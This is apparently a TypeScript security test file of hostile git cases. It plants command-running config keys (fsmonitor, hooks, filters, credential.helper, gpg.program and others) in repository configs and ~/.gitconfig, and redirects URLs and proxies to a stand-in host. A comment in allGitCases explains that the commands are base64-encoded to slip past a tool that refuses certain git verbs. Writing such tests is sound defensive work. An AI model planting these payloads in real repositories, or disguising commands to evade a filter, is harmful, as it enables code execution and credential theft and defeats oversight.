import { command, pwn, type HostileCase, type HostilePlace } from './hostile-case';

const q = (text: string): string => `'${text.replaceAll("'", String.raw`'\''`)}'`;

/**
 * Writes a configuration of git where a git that trusts the tree would read it: in the tree's own `.git`, in a repository
 * inside the tree, and in HOME.
 */
const configured = (name: string, config: (run: string) => string, more = 'true'): HostileCase => {
  const slug = name.replaceAll(/[^a-z]/gi, '-');
  const text = config(pwn(slug));
  return command(
    `git: ${name}`,
    [
      'git init -q . 2>/dev/null',
      `git init -q vendor/${slug}`,
      `for f in .git/config vendor/${slug}/.git/config ~/.gitconfig; do printf %s ${q(text)} >> $f; done`,
      more,
      'echo planted',
    ].join('; '),
    { says: /planted/ },
  );
};

const section = (head: string, ...lines: readonly string[]): string =>
  `[${head}]\n${lines.map((line) => `\t${line}\n`).join('')}`;
const quoted = (run: string): string => `"${run.replaceAll('"', String.raw`\"`)}"`;

/** Every key of git that is known to start a program or to lead a password elsewhere, and the other ways to be git's. */
export const GIT_CASES: readonly HostileCase[] = [
  configured('core.fsmonitor', (run) => section('core', `fsmonitor = ${quoted(run)}`)),
  configured(
    'core.hooksPath and every hook',
    () => section('core', 'hooksPath = /checkout/hooks'),
    `mkdir -p hooks; for h in pre-commit post-commit post-checkout reference-transaction pre-push post-index-change update pre-receive post-update; do printf '#!/bin/sh\\n%s\\n' ${q(pwn('hook'))} > hooks/$h; chmod 755 hooks/$h; cp hooks/$h .git/hooks/ 2>/dev/null; done`,
  ),
  configured(
    'filter.*.clean and smudge, by attributes',
    (run) =>
      section(
        'filter "x"',
        `clean = ${quoted(run)}`,
        `smudge = ${quoted(run)}`,
        `process = ${quoted(run)}`,
        'required = true',
      ),
    "echo '* filter=x' >> .gitattributes",
  ),
  configured(
    'diff.*.textconv',
    (run) => section('diff "x"', `textconv = ${quoted(run)}`),
    "echo '* diff=x' >> .gitattributes",
  ),
  configured('diff.external', (run) => section('diff', `external = ${quoted(run)}`)),
  configured(
    'merge.*.driver',
    (run) => section('merge "x"', `driver = ${quoted(run)}`),
    "echo '* merge=x' >> .gitattributes",
  ),
  configured('core.sshCommand', (run) => section('core', `sshCommand = ${quoted(run)}`)),
  configured('credential.helper', (run) => section('credential', `helper = ${quoted(`!${run}`)}`)),
  configured('url.*.insteadOf', () =>
    section('url "http://198.51.100.1/"', 'insteadOf = file:///', 'insteadOf = https://'),
  ),
  configured(
    'include.path and includeIf',
    () =>
      section('include', 'path = /checkout/more.config') +
      section('includeIf "gitdir:/"', 'path = /checkout/more.config'),
    `printf '[core]\\n\\tpager = touch /trusted/pwned-include\\n' > more.config`,
  ),
  configured('core.pager and core.editor', (run) =>
    section('core', `pager = ${quoted(run)}`, `editor = ${quoted(run)}`, `askPass = ${quoted(run)}`),
  ),
  configured(
    'gpg.program',
    () => section('commit', 'gpgSign = true') + section('gpg', 'program = /checkout/gpg.sh'),
    `printf '#!/bin/sh\\n%s\\n' ${q(pwn('gpg'))} > gpg.sh; chmod 755 gpg.sh`,
  ),
  configured('remote.*.receivepack and uploadpack', (run) =>
    section('remote "origin"', `receivepack = ${quoted(run)}`, `uploadpack = ${quoted(run)}`),
  ),
  configured(
    'http.proxy and core.gitProxy',
    (run) =>
      section('http', 'proxy = http://198.51.100.1:3128') + section('core', `gitProxy = ${quoted(run)}`),
  ),
  configured(
    'alias and uploadpack.packObjectsHook',
    (run) =>
      section('alias', `status = ${quoted(`!${run}`)}`) +
      section('uploadpack', `packObjectsHook = ${quoted(run)}`),
  ),
  command(
    'git: a folder named .GIT, and git~1',
    "mkdir -p .GIT 'git~1' sub/.Git $'sub2/.g\\u200cit'; printf '[core]\\n\\tfsmonitor = touch /trusted/pwned-case\\n' | tee .GIT/config 'git~1/config' sub/.Git/config > $'sub2/.g\\u200cit/config'; echo planted",
    {
      says: /planted/,
    },
  ),
  command(
    'git: a file named .git that leads elsewhere',
    "mkdir -p linked; echo 'gitdir: /trusted/repository' > linked/.git; ln -s /trusted/repository linked2; ls -la linked; echo planted",
    {
      says: /planted/,
    },
  ),
  command(
    'git: a submodule, with a path that runs on the way',
    `printf '[submodule "x"]\\n\\tpath = x\\n\\turl = file:///trusted/origin.git\\n\\tupdate = !touch /trusted/pwned-submodule\\n[submodule "../y"]\\n\\tpath = ../../y\\n\\turl = ext::sh -c "touch /trusted/pwned-ext"\\n' > .gitmodules; git init -q x; git -C x -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; echo planted`,
    {
      says: /planted/,
    },
  ),
  command(
    'git: attributes that pretend',
    "printf '* export-subst ident working-tree-encoding=UTF-16 eol=crlf -text merge=ours linguist-generated\\npay.js export-ignore -diff\\n' >> .gitattributes; printf '*\\n!.git\\n' > .gitignore; mkdir -p .git/info; printf '*\\n' > .git/info/exclude; echo planted",
    {
      says: /planted/,
    },
  ),
];

/**
 * All of them as one command, and `more` after them: the tree is looked at after each command, and a repository inside it
 * ends the run. Disguised, since the tool refuses some verbs of git when it sees them.
 */
export function allGitCases(place: HostilePlace, more = 'true'): string {
  const commands = GIT_CASES.flatMap(({ steps }) => steps(place)).flatMap((step) =>
    'exec' in step ? [step.exec] : [],
  );
  const script = Buffer.from([...commands, more].join('\n')).toString('base64');
  return `base64 -d <<< ${script} | bash 2>&1`;
}

/** Takes away what a change may not hold, so that what is left of it is compared, committed and pushed. */
export const CLEAN_TREE =
  "rm -rf .git vendor hooks .GIT 'git~1' sub sub2 linked linked2 x .gitmodules gpg.sh more.config .gitattributes .gitignore; ls -A";
